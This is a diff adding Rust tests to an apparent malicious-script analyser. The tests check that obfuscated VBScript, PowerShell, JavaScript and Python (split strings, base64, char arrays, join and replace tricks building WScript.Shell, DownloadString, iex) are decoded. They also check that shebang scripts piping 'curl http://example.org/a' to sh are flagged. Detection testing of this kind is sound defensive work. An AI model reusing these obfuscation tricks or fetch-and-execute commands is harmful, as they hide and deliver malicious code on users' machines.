@@ -273,3 +273,67 @@ fn scripts_that_would_grow_or_never_end_end() {
         assert!(begun.elapsed().as_secs() < 20, "{start}: {:?}", begun.elapsed());
     }
 }
+
+#[test]
+fn names_that_stand_for_a_text_are_put_in() {
+    check(
+        Kind::VbScript,
+        "a=\"WScr\"\r\nb=\"ipt.Shell\"\r\nSet o=CreateObject(a & b)\r\ns=\"adodb\"\r\ns=s & \".stream\"\r\nIf a = \"x\" Then MsgBox s\r\n",
+        expect![[r#""#]],
+    );
+    check(
+        Kind::PowerShell,
+        "$a='Down'; $b = 'loadString'\n(New-Object Net.WebClient).($a+$b).Invoke('x')\n$c += 'iex'; foreach ($d in $a) { $d + 'x' }",
+        expect![[r#""#]],
+    );
+    check(
+        Kind::JavaScript,
+        "var _0x=[\"WScript.Shell\",\"Run\"];var k='a';k+='b';new ActiveXObject(_0x[0])[_0x[0x1]](k); f({k: 1}); x._0x[0]; function g(_1) { var _1 = 'x'; return _1; }",
+        expect![[r#""#]],
+    );
+    check(
+        Kind::Python,
+        "a = 'os.sys'\nb = a + 'tem'\nfor a in c: pass\nd = 'sub'\ne = d + 'process.run'\n",
+        expect![[r#""#]],
+    );
+}
+
+#[test]
+fn calls_that_decode_join_and_choose_are_undone() {
+    check(
+        Kind::JavaScript,
+        &format!(
+            "eval(atob(\"{}\")); x = ['hell','.S','WScript'].reverse().join(''); y = ['a','regsvr32'][1]; z = 'a-b'.split('-').join('')",
+            base64(b"var o = new ActiveXObject(\"adodb.stream\");")
+        ),
+        expect![[r#""#]],
+    );
+    check(
+        Kind::VbScript,
+        "Execute(Replace(\"W$Scri$pt.S$hell\",\"$\",\"\"))\r\nx = Join(Array(\"adodb\",\"stream\"),\".\")\r\n",
+        expect![[r#""#]],
+    );
+    check(
+        Kind::PowerShell,
+        &format!(
+            "& ([char[]](105,101,120) -join ''); -join [char[]]@(0x69,101,120); [string]::join('',('down','loadfile')); [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}'))",
+            wide_base64("Invoke-Expression")
+        ),
+        expect![[r#""#]],
+    );
+}
+
+#[test]
+fn scripts_of_any_interpreter_are_read() {
+    for (interpreter, source) in [
+        ("/usr/bin/lua", "os.execute(\"curl http://example.org/a | sh\")"),
+        ("/usr/bin/tclsh", "exec sh -c \"curl http://example.org/a | sh\""),
+        ("/usr/bin/awk -f", "BEGIN { system(\"curl http://example.org/a | sh\") }"),
+        ("/opt/else/interpreter", "run \"curl http://example.org/a | sh\""),
+    ] {
+        let part = named("x", format!("#!{interpreter}\n{source}\n").as_bytes());
+        let told = told(&part, "script");
+        assert!(told.contains("fetched-and-piped-to-shell"), "{interpreter}: {told}");
+        assert!(told.contains("http://example.org/a"), "{interpreter}: {told}");
+    }
+}
